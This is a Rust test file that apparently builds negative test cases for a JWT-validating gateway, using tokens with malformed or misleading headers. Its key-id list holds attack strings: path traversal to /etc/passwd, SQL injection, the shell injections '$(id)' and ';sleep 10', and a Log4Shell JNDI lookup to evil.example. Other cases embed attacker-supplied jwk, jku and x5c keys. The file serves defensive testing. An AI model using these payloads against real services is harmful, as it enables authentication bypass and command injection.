//! Headers that name a key in a misleading way, or ask for another way to read the token. All these
//! tokens are correctly signed, so only the header can be the reason for the refusal. There are
//! also headers that contain a key, in tokens signed with that key. The gateway ignores the key, so
//! the signature is wrong. (Correctly signed they are accepted: see `field/token_oddities`.)

use super::{Issuer, Issuers, Row};
use crate::harness::keys::{Key, base64};

pub(super) fn rows(issuers: &Issuers) -> Vec<Row> {
    let mut rows = Vec::new();
    // A shared secret, and public keys.
    for issuer in [issuers.first(), &issuers.each[1], &issuers.set[1]] {
        for (what, header) in headers(issuer) {
            let token = issuer.sign(&header, &issuer.claims());
            rows.push(Row::bearer(format!("{}: {what}", issuer.id), &token));
        }
    }
    let link = &issuers.link;
    for (what, header) in headers(link) {
        rows.push(Row::link(
            format!("link: {what}"),
            &link.sign(&header, &link.claims()),
        ));
    }
    for issuer in [issuers.first(), &issuers.each[1], &issuers.set[1]] {
        for (what, token) in by_the_key_in_the_header(issuer) {
            rows.push(Row::bearer(format!("{}: {what}", issuer.id), &token));
        }
    }
    for (what, token) in by_the_key_in_the_header(link) {
        rows.push(Row::link(format!("link: {what}"), &token));
    }
    nested(issuers, &mut rows);
    rows
}

/// Tokens signed with a key that the header contains, or whose address it gives.
fn by_the_key_in_the_header(issuer: &Issuer) -> Vec<(String, String)> {
    let Issuer { algorithm, id, .. } = issuer;
    let key = match *algorithm {
        "HS256" => Key::secret("a secret of the attacker's own, long enough"),
        algorithm => Key::generate(algorithm),
    };
    let chain = match key {
        Key::Secret(_) => base64(b"a certificate"),
        _ => base64(&key.der()),
    };
    [
        ("jwk", key.jwk(id).to_string()),
        ("jku", r#""https://evil.example/jwks.json""#.to_owned()),
        ("x5u", r#""https://evil.example/chain.pem""#.to_owned()),
        ("x5c", format!("[\"{chain}\"]")),
    ]
    .into_iter()
    .flat_map(|(member, json)| {
        let sign = |header: &str| {
            let sign = |message: &[u8]| key.sign(algorithm, message);
            crate::harness::keys::token(header, &issuer.claims().json(), sign)
        };
        let under_its_id = format!(r#"{{"alg":"{algorithm}","kid":"{id}","{member}":{json}}}"#);
        let under_none = format!(r#"{{"alg":"{algorithm}","{member}":{json}}}"#);
        [
            (format!("by the key of {member}"), sign(&under_its_id)),
            (format!("by the key of {member}, no kid"), sign(&under_none)),
        ]
    })
    .collect()
}

/// The name of the defect, and the header that has it.
fn headers(issuer: &Issuer) -> Vec<(String, String)> {
    let algorithm = issuer.algorithm;
    let id = issuer.id;
    let mut headers = Vec::new();
    for kid in key_ids() {
        let shown: String = kid.chars().take(24).collect();
        let header = format!(r#"{{"alg":"{algorithm}","typ":"JWT","kid":{kid}}}"#);
        headers.push((format!("kid {shown}"), header));
    }
    for member in members() {
        let header = format!(r#"{{"alg":"{algorithm}","kid":"{id}",{member}}}"#);
        headers.push((format!("with {member}"), header));
    }
    for typ in [
        "logout+jwt",
        "dpop+jwt",
        "secevent+jwt",
        "token-introspection+jwt",
        "JWE",
        "JOSE+JSON",
        "",
        "jwt2",
    ] {
        let header = format!(r#"{{"alg":"{algorithm}","kid":"{id}","typ":"{typ}"}}"#);
        headers.push((format!("typ {typ:?}"), header));
    }
    let alone = [
        ("no alg", format!(r#"{{"kid":"{id}"}}"#)),
        ("alg null", format!(r#"{{"alg":null,"kid":"{id}"}}"#)),
        ("alg list", format!(r#"{{"alg":["{algorithm}"]}}"#)),
        (
            "alg twice",
            format!(r#"{{"alg":"none","alg":"{algorithm}"}}"#),
        ),
        (
            "alg twice, once escaped",
            format!(r#"{{"alg":"{algorithm}","\u0061lg":"none"}}"#),
        ),
        (
            "alg in lower case",
            format!(r#"{{"alg":"{}"}}"#, algorithm.to_lowercase()),
        ),
        ("Alg", format!(r#"{{"Alg":"{algorithm}"}}"#)),
        (
            "alg with a null byte",
            format!(r#"{{"alg":"{algorithm}\u0000"}}"#),
        ),
        (
            "kid twice",
            format!(r#"{{"alg":"{algorithm}","kid":"{id}","kid":"{id}"}}"#),
        ),
        ("a list", format!(r#"["{algorithm}"]"#)),
        ("a text", format!(r#""{algorithm}""#)),
        ("empty", "{}".to_owned()),
        ("not JSON", format!("{{alg:{algorithm}}}")),
        ("a comma too many", format!(r#"{{"alg":"{algorithm}",}}"#)),
        (
            "something behind it",
            format!(r#"{{"alg":"{algorithm}"}}{{}}"#),
        ),
        ("a BOM", format!("\u{FEFF}{{\"alg\":\"{algorithm}\"}}")),
        (
            "deep",
            format!(r#"{{"alg":"{algorithm}","x":{}}}"#, "[".repeat(1_000)),
        ),
        ("alg empty", r#"{"alg":""}"#.to_owned()),
    ];
    headers.extend(alone.map(|(what, header)| (what.to_owned(), header)));
    headers
}

/// Key ids, as JSON, that name no key.
fn key_ids() -> Vec<String> {
    let mut ids: Vec<String> = [
        r#""../../../../dev/null""#,
        r#""/etc/passwd""#,
        r#""file:///proc/self/environ""#,
        r#""https://evil.example/key.pem""#,
        r#""x' UNION SELECT 'secret' -- ""#,
        r#""one\u0000""#,
        r#""\u0000""#,
        r#"";sleep 10""#,
        r#""$(id)""#,
        r#""|/usr/bin/id""#,
        r#""%2e%2e%2f""#,
        r#""one\n""#,
        r#""${jndi:ldap://evil.example/a}""#,
        r#""""#,
        "7",
        "null",
        "true",
        r#"["one"]"#,
        r#"{"one":1}"#,
    ]
    .map(str::to_owned)
    .into();
    ids.push(format!("\"{}\"", "k".repeat(1_900)));
    ids
}

/// Header members that ask for special treatment.
fn members() -> Vec<String> {
    [
        r#""crit":["exp"],"exp":1"#,
        r#""crit":["jku"],"jku":"https://evil.example/jwks.json""#,
        r#""\u0063rit":["x"],"x":1"#,
        r#""crit":"""#,
        r#""crit":[]"#,
        r#""crit":null"#,
        r#""crit":["b64"],"b64":false"#,
        r#""b64":false"#,
        r#""b64":true"#,
        r#""b64":null"#,
        r#""zip":"DEF""#,
        r#""zip":null"#,
        r#""enc":null"#,
        r#""enc":"A256GCM""#,
        r#""typ":7"#,
        r#""typ":null"#,
        r#""typ":"JWT","typ":"JWT""#,
    ]
    .map(str::to_owned)
    .into()
}

/// A token inside a token, and texts in the form of an encrypted one.
fn nested(issuers: &Issuers, rows: &mut Vec<Row>) {
    let issuer = issuers.first();
    let inner = issuer.good();
    let header = r#"{"alg":"HS256","kid":"one","cty":"JWT"}"#;
    let sign = |message: &[u8]| issuer.key.sign("HS256", message);
    let token = crate::harness::keys::token(header, &inner, sign);
    rows.push(Row::bearer("a token as the claims", &token));
    let token = crate::harness::keys::token(header, &format!("\"{inner}\""), sign);
    rows.push(Row::bearer("a token as a text for the claims", &token));
    let encrypted = r#"{"alg":"dir","enc":"A256GCM"}"#;
    let token = crate::harness::keys::token(encrypted, &inner, sign);
    rows.push(Row::bearer("said to be encrypted", &token));
    let head = base64(encrypted.as_bytes());
    let row = Row::bearer("five segments", &format!("{head}..AAAA.AAAA.AAAA"));
    rows.push(row);
}
